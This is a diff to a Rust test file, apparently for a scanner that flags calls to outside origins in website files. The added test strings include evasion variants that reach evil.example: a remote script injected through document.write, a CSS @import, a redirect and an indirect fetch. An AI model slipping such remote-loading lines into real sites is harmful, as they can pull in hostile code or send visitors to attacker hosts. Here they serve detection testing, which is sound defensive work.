@@ -135,7 +135,8 @@ mod each_finding {
             .file("site/style.css", "@import '//fonts.example/a.css';\n")
             .file(
                 "site/main.js",
-                "fetch('https://api.example/seen');\nconst other = 'https://mentioned.example/';\n",
+                "fetch('https://api.example/seen');\nconst other = 'https://mentioned.example/';\n\
+                 fetch(`https://${host}/seen`);\n",
             );
         explained("verify-foreign-origin", archive);
         let ways = "<link rel=preconnect href=//b.example><meta http-equiv=refresh content='9; https://c.example'>\
@@ -474,6 +475,10 @@ mod nothing_hides {
                 "fetch(\"https:\\/\\/evil.example\")",
                 "fetch(\"HTTPS://evil.example\")",
                 "fetch(`https://evil.example/${x}`)",
+                "const U = 'https://evil.example'; fetch(U)",
+                "document.write('<script src=\"https://evil.example/a.js\"><\\/script>')",
+                "style.textContent = \"@import 'https://evil.example/a.css'\"",
+                "location.href = 'https://evil.example/'",
             ],
         );
     }
